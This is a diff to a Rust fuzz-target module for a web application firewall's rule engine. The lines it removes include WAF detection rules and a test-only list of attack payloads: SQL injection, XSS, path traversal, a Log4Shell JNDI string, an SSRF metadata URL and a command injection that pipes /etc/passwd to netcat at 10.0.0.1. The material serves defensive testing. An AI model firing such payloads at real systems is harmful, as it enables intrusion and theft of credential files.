@@ -1,20 +1,18 @@
-//! Targets over what a request carries, and over whole requests and rule files.
+//! Targets over what a request carries, and over rule files.
 //!
 //! Each may only panic where a parser broke a promise its module makes: that nothing is lost, nothing
 //! grows, and everything stays inside its limits.
 
-use std::net::{Ipv4Addr, SocketAddr};
 use std::ops::{ControlFlow, Range};
-use std::sync::{Arc, LazyLock};
-use std::time::SystemTime;
+use std::sync::LazyLock;
 
 use memchr::memmem;
 
+use crate::Loader;
 use crate::body::nested as inner;
 use crate::body::xml::XPath;
 use crate::body::{cookies as cookie, graphql as gql, json as js, multipart as mp, uri as target};
 use crate::body::{urlencoded as form, xml as markup};
-use crate::{Loader, Origin, RequestLine, RuleSet, Transaction};
 
 /// What [`json`] made of a document.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -266,9 +264,7 @@ pub fn uri(data: &[u8]) {
 /// find depends on the host.
 pub fn seclang(data: &[u8]) {
     let text = String::from_utf8_lossy(data);
-    let folded = text.to_ascii_lowercase();
-    let reads_files = ["include", "file", "@pmf", "matchf", "secgeolookupdb"];
-    if reads_files.iter().any(|word| folded.contains(word)) {
+    if reads_files(&text) {
         return;
     }
     if let Err(problems) = Loader::new().text("fuzz.conf", &text).load() {
@@ -276,164 +272,24 @@ pub fn seclang(data: &[u8]) {
     }
 }
 
-/// One request, through a small rule set and through the baseline: request line, headers, an empty
-/// line, the body.
-pub fn transaction(data: &[u8]) {
-    for rules in [&*RULE_SET, &*BASELINE] {
-        fast_and_plain_agree(rules, data);
-    }
-}
-
-/// Caches, prefilters and what is remembered of values must not change a thing.
-pub(crate) fn fast_and_plain_agree(rules: &Arc<RuleSet>, data: &[u8]) {
-    let plain = run(rules, data, Transaction::plainly);
-    let fresh = run(rules, data, Transaction::forget);
-    assert_eq!(fresh, plain, "a cache or a prefilter changed the verdict");
-    // A value is remembered when it is seen the second time, and recalled the third.
-    for time in 1..=3 {
-        let warm = run(rules, data, |_| {});
-        assert_eq!(warm, plain, "a remembered value changed verdict {time}");
-    }
-}
-
-/// Touches every collection the parsers fill, with the operators that have fast paths.
-const RULES: &str = r#"
-SecRuleEngine On
-SecRequestBodyAccess On
-SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
-SecRule REQUEST_HEADERS:Content-Type "@rx ^(?:application|text)/xml" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
-SecRule REQBODY_ERROR "!@eq 0" "id:3,phase:2,deny,status:400,log"
-SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:4,phase:2,deny,status:400,log"
-SecRule ARGS|ARGS_NAMES|REQUEST_COOKIES|REQUEST_COOKIES_NAMES|FILES|XML:/*|XML://@* "@rx (?i)<script[^>]*>" "id:5,phase:2,pass,log,capture,t:none,t:urlDecodeUni,t:htmlEntityDecode,setvar:tx.score=+5,logdata:'%{TX.0} in %{MATCHED_VAR_NAME}'"
-SecRule ARGS|REQUEST_URI_RAW|REQUEST_HEADERS "@pm union select sleep( /etc/passwd ../" "id:6,phase:2,pass,log,t:none,t:lowercase,t:normalizePath,chain"
-    SecRule MATCHED_VARS "@rx (?:union\s+select|/etc/|\.\./)" "setvar:tx.score=+3"
-SecRule ARGS "@detectSQLi" "id:7,phase:2,pass,log,setvar:tx.score=+5,multiMatch,t:none,t:urlDecode,t:replaceComments"
-SecRule TX:score "@ge 5" "id:8,phase:2,deny,status:403,log,msg:'score %{tx.score}'"
-"#;
-
-#[expect(clippy::expect_used, reason = "the rules stand above")]
-static RULE_SET: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
-    let loaded = Loader::new().text("fuzz.conf", RULES).load();
-    Arc::new(loaded.expect("the rules of the target load").rules)
-});
-
-#[expect(clippy::expect_used, reason = "the baseline's own test loads it")]
-static BASELINE: LazyLock<Arc<RuleSet>> = LazyLock::new(|| {
-    let loaded = Loader::new().baseline().load();
-    Arc::new(loaded.expect("the baseline loads").rules)
-});
-
-fn run(rules: &Arc<RuleSet>, data: &[u8], set: impl Fn(&mut Transaction)) -> Vec<String> {
-    let (mut transaction, refused) = send(rules, data, set);
-    let outcome = transaction.finish();
-    let mut seen: Vec<String> = outcome
-        .matches
-        .iter()
-        .map(|hit| format!("{hit:?}"))
-        .collect();
-    seen.extend(transaction.variables());
-    seen.push(format!(
-        "{:?}",
-        (outcome.inbound_score, outcome.outbound_score)
-    ));
-    seen.push(refused.to_string());
-    seen
-}
-
-/// A request of lines (request line, headers, an empty one, body) through the rules; whether they
-/// refused it.
-pub(super) fn send(
-    rules: &Arc<RuleSet>,
-    data: &[u8],
-    set: impl Fn(&mut Transaction),
-) -> (Transaction, bool) {
-    let (line, mut rest) = split_line(data);
-    let mut words = line.splitn(2, |byte| *byte == b' ');
-    let line = RequestLine {
-        method: words.next().unwrap_or_default(),
-        target: words.next().unwrap_or_default(),
-        protocol: b"HTTP/1.1",
-    };
-    let mut headers = Vec::new();
-    while !rest.is_empty() {
-        let (header, after) = split_line(rest);
-        rest = after;
-        let mut halves = header.splitn(2, |byte| *byte == b':');
-        match (halves.next(), halves.next()) {
-            (Some(name), Some(value)) => headers.push((name, value.trim_ascii())),
-            _ => break,
-        }
-    }
-    let origin = Origin {
-        client: SocketAddr::from((Ipv4Addr::LOCALHOST, 40_000)),
-        server: SocketAddr::from((Ipv4Addr::LOCALHOST, 80)),
-    };
-    let mut transaction = rules.begin(origin, "fuzz", SystemTime::UNIX_EPOCH);
-    set(&mut transaction);
-    let refused = transaction
-        .request_headers(line, headers.into_iter())
-        .is_some()
-        || transaction.request_body(rest, true).is_some();
-    let answer: [(&[u8], &[u8]); 1] = [(b"Content-Type", b"text/html")];
-    if !refused {
-        transaction.response_headers(200, "HTTP/1.1", answer.into_iter());
-        transaction.response_body(b"", true);
-    }
-    (transaction, refused)
+/// True of rules that may read files.
+pub(super) fn reads_files(text: &str) -> bool {
+    let folded = text.to_ascii_lowercase();
+    let words = ["include", "file", "@pmf", "matchf", "secgeolookupdb"];
+    words.iter().any(|word| folded.contains(word))
 }
 
 /// Everything up to the first line feed, and everything behind it.
-fn split_line(data: &[u8]) -> (&[u8], &[u8]) {
+pub(super) fn split_line(data: &[u8]) -> (&[u8], &[u8]) {
     let mut halves = data.splitn(2, |byte| *byte == b'\n');
     let line = halves.next().unwrap_or_default();
     let line = line.strip_suffix(b"\r").unwrap_or(line);
     (line, halves.next().unwrap_or_default())
 }
 
-/// Payloads of many kinds in many places.
-#[cfg(test)]
-pub(crate) fn attacks() -> Vec<String> {
-    let mut requests = Vec::new();
-    for payload in [
-        "1' UNION SELECT password FROM users--",
-        "<ScRiPt>alert(1)</sCrIpT>",
-        "../../../../etc/passwd",
-        "${jndi:ldap://x/a}",
-        ";cat /etc/passwd|nc 10.0.0.1 80",
-        "{{7*7}}%{{}}",
-        "http://169.254.169.254/latest/meta-data",
-        "&#x3c;img src=x onerror=&quot;a()&quot;&gt;",
-        "\\u003cscript\\u003e %u003cb %C0%AF caf\u{e9} \u{212a}",
-    ] {
-        for body in [format!("a={payload}"), format!("{{\"a\":\"{payload}\"}}")] {
-            for kind in ["application/x-www-form-urlencoded", "application/json"] {
-                let head = format!("POST /x?q={payload} HTTP/1.1\nHost: a\nContent-Type: {kind}");
-                requests.push(format!("{head}\nCookie: c={payload}\n\n{body}"));
-            }
-        }
-    }
-    requests
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn the_rules_of_the_transaction_target_are_not_idle() {
-        let judged = |data: &[u8]| run(&RULE_SET, data, |_| {}).pop();
-        let refused = Some("true".to_owned());
-        let passed = Some("false".to_owned());
-        assert_eq!(judged(b"GET /a?q=%3Cscript%3E\nHost: h\n\n"), refused);
-        assert_eq!(judged(b"GET /a?q=scripture\nHost: h\n\n"), passed);
-        let json = b"POST /\nContent-Type: application/json\n\n{\"a\":[\"<script>\"]}";
-        assert_eq!(judged(json), refused);
-        let xml = b"POST /\nContent-Type: text/xml\n\n<a>&lt;script&gt;</a>";
-        assert_eq!(judged(xml), refused);
-        let multipart = b"POST /\nContent-Type: multipart/form-data; boundary=b\n\n\
-            --b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n<script>\r\n--b--\r\n";
-        assert_eq!(judged(multipart), refused);
-    }
 
     #[test]
     fn every_target_runs_on_nothing_and_on_noise() {
@@ -449,14 +305,6 @@ mod tests {
             cookies(data);
             uri(data);
             seclang(data);
-            transaction(data);
-        }
-    }
-
-    #[test]
-    fn fast_and_plain_evaluation_agree_on_attacks() {
-        for request in attacks() {
-            transaction(request.as_bytes());
         }
     }
 }
